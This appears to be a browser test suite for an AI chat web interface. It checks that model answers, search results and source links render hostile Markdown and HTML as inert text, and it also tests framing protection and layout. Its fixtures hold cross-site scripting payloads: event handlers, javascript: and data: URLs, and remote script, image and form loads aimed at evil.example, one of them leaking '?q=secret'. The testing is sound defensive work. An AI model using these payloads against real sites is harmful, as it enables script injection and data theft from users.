// Hostile and ordinary Markdown in the browser: it is shown and cannot run code or load anything.

import assert from "node:assert/strict";
import { test } from "node:test";

import { exchange, lastAnswer, openSources, prose, sendMessage, setUp } from "../support/fixture.js";
import { HOSTILE_TEXTS } from "../support/hostile.js";

const HOSTILE = `# <script>window.owned = 1</script>

<img src="https://evil.example/pixel.png" onerror="window.owned = 2"> <svg onload="window.owned = 3">
![leak](https://evil.example/?q=secret) [click](javascript:window.owned=4) <a href="javascript:window.owned=5">x</a>
[data](data:text/html,<script>window.owned=6</script>) <javascript:window.owned=7> [rel](//evil.example/x)

| <b onmouseover="window.owned=8">cell</b> | \`<script>window.owned = 9</script>\` |
|---|---|
| [ok](https://good.example/ "onclick=alert(1)") | <iframe src="https://evil.example/"></iframe> |

\`\`\`html" onclick="window.owned=10
<script src="https://evil.example/x.js"></script>
\`\`\`
<style>@import "https://evil.example/x.css";</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/"><input name="x"></form>
`;

/** Splits a text into chunks of up to seven characters, also inside tags. */
const chunksOf = (text) => text.match(/[\s\S]{1,7}/g);

test("f137_ f138_ hostile Markdown is inert", async (t) => {
  const { page, url, model, watch } = await setUp(t);
  await page.goto(url);
  await sendMessage(page, "Be evil.");
  const reply = await model.next();
  for (const chunk of chunksOf(HOSTILE)) reply.sendText(chunk);
  reply.end();
  await lastAnswer(page).locator(".message-actions").waitFor();
  for (const reopen of [async () => {}, () => page.reload()]) {
    await reopen();
    await prose(page).getByText("window.owned = 2").waitFor();
    assert.equal(await page.evaluate(() => window.owned), undefined);
    const tags = await prose(page).evaluate((node) =>
      [...new Set([...node.querySelectorAll("*")].map((one) => one.localName))].sort(),
    );
    assert.deepEqual(tags, [
      "a", "br", "button", "code", "div", "h3", "p", "pre", "span", "table", "tbody", "td", "th", "thead",
      "tr",
    ]);
    const links = await prose(page)
      .locator("a")
      .evaluateAll((all) => all.map(({ href, rel, target, attributes }) => [href, rel, target, attributes.length]));
    const rel = "noopener noreferrer nofollow";
    const written = [
      "https://evil.example/pixel.png",
      "https://evil.example/?q=secret",
      "https://good.example/",
      "https://evil.example/",
      "https://evil.example/x.css",
      "https://evil.example/",
      "https://evil.example/",
      "https://evil.example/",
    ];
    assert.deepEqual(links.sort(), written.map((href) => [href, rel, "_blank", 4]).sort());
  }
  assert.deepEqual(
    watch.requests.filter((request) => request.includes("evil")),
    [],
  );
});

test("f137_ f138_ hostile texts are inert as answers", async (t) => {
  const { page, url, model, watch } = await setUp(t);
  const dialogs = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(url);
  await sendMessage(page, "Be evil.");
  const reply = await model.next();
  // A tool call would end the reply.
  for (const text of HOSTILE_TEXTS.filter((text) => !text.includes("tool_call"))) reply.sendText(`${text}\n\n<!-- -->\n\n`);
  reply.sendText("\n\nThe end.");
  reply.end();
  await lastAnswer(page).locator(".message-actions").waitFor();
  for (const reopen of [async () => {}, () => page.reload()]) {
    await reopen();
    await lastAnswer(page).locator(".message-actions").waitFor();
    const found = await page.evaluate(() => {
      const nodes = [...document.querySelectorAll(".answer *")];
      const handlers = nodes.flatMap((node) => [...node.attributes].filter(({ name }) => /^(on|src|style$|formaction|action)/.test(name) && !node.closest("math")).map(({ name }) => `${node.localName} ${name}`));
      const links = nodes.filter((node) => node.hasAttribute("href") && node.localName !== "use").map((node) => new URL(node.getAttribute("href")).protocol);
      return { owned: window.owned ?? null, handlers, schemes: [...new Set(links)].sort() };
    });
    assert.equal(found.owned, null);
    assert.deepEqual(found.handlers, []);
    assert.deepEqual(found.schemes.filter((scheme) => !["http:", "https:", "mailto:"].includes(scheme)), []);
  }
  assert.deepEqual(dialogs, []);
  assert.deepEqual(watch.requests.filter((request) => request.includes("evil")), []);
});

test("f135_ hostile titles and sources are text", async (t) => {
  const { page, url, model, search } = await setUp(t);
  await page.goto(url);
  await sendMessage(page, "<img src=x onerror='window.owned=1'>");
  (await model.next()).callSearch("<script>window.owned=2</script>");
  (await search.next()).respond(3, [
    { title: "<b>bold</b>", url: "https://a.example/" },
    { url: "javascript:window.owned=3" },
    { url: "data:text/html,x" },
  ]);
  const reply = await model.next();
  reply.sendText("See [1] and [2].");
  reply.end();
  await lastAnswer(page).locator(".message-actions").waitFor();
  await page.getByRole("navigation").getByRole("link", { name: "<img src=x onerror='window.owned=1'>" }).waitFor();
  await openSources(page);
  await lastAnswer(page).locator(".sources").getByText("<b>bold</b>").waitFor();
  const schemes = await lastAnswer(page)
    .locator("a")
    .evaluateAll((all) => all.map((link) => link.protocol));
  assert.deepEqual([...new Set(schemes)], ["https:"]);
  assert.equal(await page.evaluate(() => window.owned), undefined);
});

test("f111_ text like an event stream stays text", async (t) => {
  const { page, url, model } = await setUp(t);
  await page.goto(url);
  await sendMessage(page, "Be sly.");
  const reply = await model.next();
  const sly = 'One\n\ndata: [DONE]\r\n\r\nid: 7\revent: error\ndata: {"type":"error"}\n\nTwo';
  for (const chunk of chunksOf(sly)) reply.sendText(chunk);
  reply.end();
  await lastAnswer(page).locator(".message-actions").waitFor();
  assert.deepEqual(await prose(page).locator("p").allTextContents(), [
    "One",
    "data: [DONE]",
    'id: 7event: errordata: {"type":"error"}',
    "Two",
  ]);
  assert.equal(await lastAnswer(page).locator(".note").count(), 0);
});

test("f145_ no other page can frame this one", async (t) => {
  // Without authentication the server itself rejects the request.
  const { page, url, watch } = await setUp(t, { settings: { AUTH: "api_key" } });
  await page.goto("about:blank");
  const blocked = page.waitForEvent("framenavigated", (frame) => frame.url().startsWith("chrome-error:"));
  const answer = page.waitForResponse(`${url}/`);
  await page.setContent(`<iframe src="${url}"></iframe>`);
  await blocked;
  assert.match((await answer).headers()["content-security-policy"], /frame-ancestors 'none'/);
  assert.deepEqual(watch.requests, [`${url}/`]);
  // The browser may report the blocked frame, which is expected.
  watch.errors.length = 0;
});

test("Markdown renders as elements", async (t) => {
  const fixture = await setUp(t);
  const { page, url } = fixture;
  await page.goto(url);
  await exchange(
    fixture,
    "Show me.",
    "## Head\n\n1. one\n   - *two*\n2. three\n\n> quoted\n\n| a | b |\n|---|--:|\n| 1 | ~~2~~ |\n\n---\n\n`x`\n<b>\n\n```rust\nfn main() {}\n```",
  );
  await prose(page).locator(".hljs-keyword").waitFor();
  const html = await prose(page).evaluate((node) => node.innerHTML);
  assert.equal(
    html,
    [
      '<h4 class="level-2" aria-level="3">Head</h4>',
      "<ol><li>one<ul><li><em>two</em></li></ul></li><li>three</li></ol>",
      "<blockquote><p>quoted</p></blockquote>",
      '<div class="table" tabindex="0" role="group" aria-label="Table"><table><thead><tr><th>a</th><th class="align-right">b</th></tr></thead>',
      '<tbody><tr><td>1</td><td class="align-right"><s>2</s></td></tr></tbody></table></div>',
      '<hr><p><code class="short">x</code><br>&lt;b&gt;</p>',
      '<div class="code" data-language="rust" data-coloured=""><div class="code-head"><span>rust</span><button type="button" class="copy-code" data-copy="code" aria-label="Copy code">Copy</button></div>',
      '<pre tabindex="0"><code><span class="hljs-keyword">fn</span> <span class="hljs-title function_">main</span>() {}</code></pre></div>',
    ].join(""),
  );
});

test("200,000 stars keep the page responsive", async (t) => {
  const { page, url, model } = await setUp(t);
  await page.goto(url);
  await sendMessage(page, "Stars?");
  const reply = await model.next();
  for (let n = 0; n < 50; n += 1) reply.sendText("x*".repeat(2_000));
  reply.end();
  await lastAnswer(page).locator(".message-actions").waitFor();
  await page.getByRole("button", { name: "New conversation" }).click();
  await page.getByRole("heading", { name: "What would you like to know?" }).waitFor();
});

test("the numbers of a list from right to left are at the right", async (t) => {
  const fixture = await setUp(t);
  const { page, url } = fixture;
  await page.goto(url);
  await exchange(fixture, "List?", "1. שלום עולם\n2. abc\n\nText.\n\n1. abc\n2. שלום");
  const directions = await prose(page).locator("ol").evaluateAll((lists) => lists.map((list) => getComputedStyle(list).direction));
  assert.deepEqual(directions, ["rtl", "ltr"]);
});

test("short cells of a table do not break", async (t) => {
  const fixture = await setUp(t, { context: { viewport: { width: 360, height: 700 } } });
  const { page, url } = fixture;
  await page.goto(url);
  await exchange(fixture, "表格？", "| 方案 | 每年节省电费 | 增加自用比例 | 说明 |\n|---|---|---|---|\n| 甲 | 四十一欧元左右 | 百分之三十 | 这一列的文字比较长，所以可以换行显示在多行之中。 |");
  const heights = await prose(page).locator("th").evaluateAll((cells) => cells.map((cell) => cell.getBoundingClientRect().height));
  assert.ok(Math.max(...heights) < 50, String(heights));
  const table = prose(page).locator(".table");
  assert.equal(await table.evaluate((table) => getComputedStyle(table).backgroundAttachment), "local, local, scroll, scroll", "shades at its sides");
  await table.focus();
  await page.keyboard.press("ArrowRight");
  await page.waitForFunction(() => document.querySelector(".table").scrollLeft > 0);
});
